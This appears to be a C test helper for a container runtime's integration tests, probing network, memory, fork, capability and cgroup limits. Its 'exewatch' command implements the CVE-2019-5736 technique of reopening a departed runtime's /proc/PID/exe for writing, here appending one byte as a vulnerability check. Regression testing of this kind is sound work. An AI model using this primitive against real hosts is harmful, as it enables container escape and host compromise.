// SPDX-License-Identifier: MIT
/*
 * ocitool: what the OCI tests (tests/integration/test_oci_*.sh) run inside a
 * container where busybox has no applet for it. Static (musl), copied into
 * the test rootfs by tests/oci/mkrootfs.sh; one operation per run, results
 * on stdout as words a shell test can compare.
 *
 *   ocitool connect IP PORT   TCP connect(2) to IPv4 IP:PORT: prints "ok" or
 *                             the errno's name (EPERM, ECONNREFUSED, ...)
 *   ocitool alloc MIB         allocates and touches MIB MiB, 1 MiB at a time,
 *                             printing "allocated N" every 16 MiB; "done" at
 *                             the end (a memory limit kills it before)
 *   ocitool forks N           forks up to N children that sleep; prints
 *                             "forked K" (K < N: fork failed, with the errno's
 *                             name after it), then kills and reaps them
 *   ocitool exewrite PID      opens /proc/PID/exe for writing (no O_TRUNC, no
 *                             write): prints "ok" or the errno's name
 *   ocitool exewatch SECS     the CVE-2019-5736 attack: for SECS seconds, scans
 *                             /proc for processes whose executable is not
 *                             under /bin (a runtime that entered the
 *                             container), holds their /proc/PID/exe with
 *                             O_PATH, and once each is gone reopens it for
 *                             writing and appends one byte. Prints
 *                             "watching", "caught PID EXE" per process,
 *                             "attempts" with each one's outcome (wrote or
 *                             an errno's name), then "result wrote" (a file
 *                             was written: vulnerable) or "result safe";
 *                             "result none" when nothing came
 *   ocitool capsleep SECS     drops every capability, then sleeps: the test's
 *                             stand-in for a vulnerable runtime (a host file
 *                             run in the container's PID namespace, with the
 *                             container's privileges or less), which
 *                             exewatch must be able to write
 *   ocitool segv              dies of SIGSEGV (a fault: the kernel delivers it
 *                             even to a PID namespace's init)
 *   ocitool cgmem             the memory limit this process's cgroup has
 *                             (v1 memory.limit_in_bytes or v2 memory.max,
 *                             through /proc/self/cgroup and /sys/fs/cgroup)
 *                             in bytes, or "max", or "unknown"
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <dirent.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <time.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *errname(int e)
{
	switch (e) {
	case EPERM: return "EPERM";
	case EACCES: return "EACCES";
	case ECONNREFUSED: return "ECONNREFUSED";
	case ENETUNREACH: return "ENETUNREACH";
	case ETIMEDOUT: return "ETIMEDOUT";
	case EAGAIN: return "EAGAIN";
	case ENOMEM: return "ENOMEM";
	case ETXTBSY: return "ETXTBSY";
	case ENOENT: return "ENOENT";
	case EROFS: return "EROFS";
	case ESRCH: return "ESRCH";
	default: return "EOTHER";
	}
}

static int do_connect(const char *ip, const char *port)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port)) };
	int fd;

	if (inet_pton(AF_INET, ip, &sa.sin_addr) != 1) {
		fprintf(stderr, "ocitool: not an IPv4 address: %s\n", ip);
		return 2;
	}
	fd = socket(AF_INET, SOCK_STREAM, 0);
	if (fd < 0) {
		printf("socket-%s\n", errname(errno));
		return 0;
	}
	if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0)
		printf("%s\n", errname(errno));
	else
		printf("ok\n");
	close(fd);
	return 0;
}

static int do_alloc(const char *mib)
{
	long n = atol(mib), i;

	setvbuf(stdout, NULL, _IONBF, 0);
	for (i = 1; i <= n; i++) {
		char *p = malloc(1 << 20);

		if (!p) {
			printf("malloc failed at %ld\n", i);
			return 1;
		}
		memset(p, 0x5a, 1 << 20);
		if (i % 16 == 0)
			printf("allocated %ld\n", i);
	}
	printf("done\n");
	return 0;
}

static int do_forks(const char *count)
{
	long n = atol(count), k;
	pid_t *pids = calloc((size_t)n + 1, sizeof(*pids));
	int err = 0;

	if (!pids)
		return 1;
	for (k = 0; k < n; k++) {
		pid_t p = fork();

		if (p < 0) {
			err = errno;
			break;
		}
		if (p == 0) {
			pause();
			_exit(0);
		}
		pids[k] = p;
	}
	if (err)
		printf("forked %ld %s\n", k, errname(err));
	else
		printf("forked %ld\n", k);
	fflush(stdout);
	for (long i = 0; i < k; i++)
		kill(pids[i], SIGKILL);
	for (long i = 0; i < k; i++)
		waitpid(pids[i], NULL, 0);
	free(pids);
	return 0;
}

#define MAX_CAUGHT 16

static double now_s(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* Scans /proc once; holds the exe of every new process not run from /bin. */
static void exe_scan(int *fds, pid_t *pids, int *n, pid_t self)
{
	DIR *d = opendir("/proc");
	struct dirent *e;

	if (!d)
		return;
	while ((e = readdir(d)) && *n < MAX_CAUGHT) {
		char path[64], link[256];
		pid_t pid = (pid_t)atoi(e->d_name);
		ssize_t k;
		int fd, i;

		if (pid <= 1 || pid == self)
			continue;
		for (i = 0; i < *n && pids[i] != pid; i++)
			;
		if (i < *n)
			continue;
		snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
		fd = open(path, O_PATH | O_CLOEXEC);
		if (fd < 0)
			continue;
		k = readlink(path, link, sizeof(link) - 1);
		if (k <= 0 || (link[k] = 0, !strncmp(link, "/bin/", 5))) {
			close(fd);
			continue;
		}
		fds[*n] = fd;
		pids[(*n)++] = pid;
		printf("caught %d %s\n", (int)pid, link);
		fflush(stdout);
	}
	closedir(d);
}

/* Once the process is gone, reopen its exe for writing and append a byte. */
static const char *exe_attack(int fd, double until)
{
	char path[64];
	int w, err = 0;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	while (now_s() < until) {
		w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
		if (w >= 0) {
			ssize_t r = write(w, "x", 1);

			err = errno;
			close(w);
			if (r == 1)
				return "wrote";
			return errname(err);
		}
		err = errno;
		if (err != ETXTBSY)
			return errname(err);
		/* still running (its exe is write-denied until it is gone) */
		usleep(2000);
	}
	return errname(err);
}

static int do_exewatch(const char *secs)
{
	double until = now_s() + atof(secs);
	int fds[MAX_CAUGHT], n = 0, i;
	pid_t pids[MAX_CAUGHT], self = getpid();
	bool wrote = false;

	printf("watching\n");
	fflush(stdout);
	while (now_s() < until && n == 0)
		exe_scan(fds, pids, &n, self);
	/* the first one caught: keep scanning briefly for its siblings */
	for (double t = now_s() + 0.05; n && now_s() < t;)
		exe_scan(fds, pids, &n, self);
	if (n == 0) {
		printf("result none\n");
		return 0;
	}
	printf("attempts");
	for (i = 0; i < n; i++) {
		const char *r = exe_attack(fds[i], now_s() + 10);

		wrote |= !strcmp(r, "wrote");
		printf(" %s", r);
	}
	printf("\nresult %s\n", wrote ? "wrote" : "safe");
	return 0;
}

static int do_capsleep(const char *secs)
{
	struct { uint32_t version; int pid; } hdr = { 0x20080522, 0 };	/* _LINUX_CAPABILITY_VERSION_3 */
	struct { uint32_t effective, permitted, inheritable; } data[2] = { { 0, 0, 0 }, { 0, 0, 0 } };

	if (syscall(SYS_capset, &hdr, data) < 0) {
		printf("capset %s\n", errname(errno));
		return 1;
	}
	usleep((useconds_t)(atof(secs) * 1e6));
	return 0;
}

static int do_exewrite(const char *pid)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0) {
		printf("%s\n", errname(errno));
		return 0;
	}
	printf("ok\n");
	close(fd);
	return 0;
}

/* The path of this process's cgroup in hierarchy "memory" (v1) or "" (v2). */
static int cgroup_path(const char *want, char *buf, size_t len)
{
	FILE *f = fopen("/proc/self/cgroup", "re");
	char line[512];

	if (!f)
		return -1;
	while (fgets(line, sizeof(line), f)) {
		char *c1 = strchr(line, ':'), *c2 = c1 ? strchr(c1 + 1, ':') : NULL;

		if (!c2)
			continue;
		*c2 = 0;
		line[strcspn(line, "\n")] = 0;
		c2[1 + strcspn(c2 + 1, "\n")] = 0;
		if ((*want == 0 && c1[1] == 0 && line[0] == '0') ||
		    (*want && strstr(c1 + 1, want))) {
			snprintf(buf, len, "%s", c2 + 1);
			fclose(f);
			return 0;
		}
	}
	fclose(f);
	return -1;
}

static int print_file(const char *path)
{
	char v[64];
	FILE *f = fopen(path, "re");

	if (!f)
		return -1;
	if (!fgets(v, sizeof(v), f)) {
		fclose(f);
		return -1;
	}
	fclose(f);
	fputs(v, stdout);
	return 0;
}

static int do_cgmem(void)
{
	char cg[400], path[512];
	const char *v1[] = { "/sys/fs/cgroup/memory", NULL };

	/* a cgroup namespace shows "/" for the container's own cgroup, and
	 * /sys/fs/cgroup mounted in the container is that cgroup */
	if (cgroup_path("memory", cg, sizeof(cg)) == 0) {
		snprintf(path, sizeof(path), "%s%s/memory.limit_in_bytes", v1[0], cg);
		if (print_file(path) == 0)
			return 0;
		if (print_file("/sys/fs/cgroup/memory/memory.limit_in_bytes") == 0)
			return 0;
	}
	if (cgroup_path("", cg, sizeof(cg)) == 0) {
		snprintf(path, sizeof(path), "/sys/fs/cgroup%s/memory.max", cg);
		if (print_file(path) == 0)
			return 0;
		if (print_file("/sys/fs/cgroup/memory.max") == 0)
			return 0;
	}
	printf("unknown\n");
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 4 && !strcmp(argv[1], "connect"))
		return do_connect(argv[2], argv[3]);
	if (argc == 3 && !strcmp(argv[1], "alloc"))
		return do_alloc(argv[2]);
	if (argc == 3 && !strcmp(argv[1], "forks"))
		return do_forks(argv[2]);
	if (argc == 3 && !strcmp(argv[1], "exewrite"))
		return do_exewrite(argv[2]);
	if (argc == 3 && !strcmp(argv[1], "exewatch"))
		return do_exewatch(argv[2]);
	if (argc == 3 && !strcmp(argv[1], "capsleep"))
		return do_capsleep(argv[2]);
	if (argc == 2 && !strcmp(argv[1], "segv"))
		return *(volatile int *)(uintptr_t)(argc - 2);
	if (argc == 2 && !strcmp(argv[1], "cgmem"))
		return do_cgmem();
	fprintf(stderr, "usage: ocitool connect IP PORT | alloc MIB | forks N | exewrite PID | exewatch SECS | capsleep SECS | segv | cgmem\n");
	return 2;
}
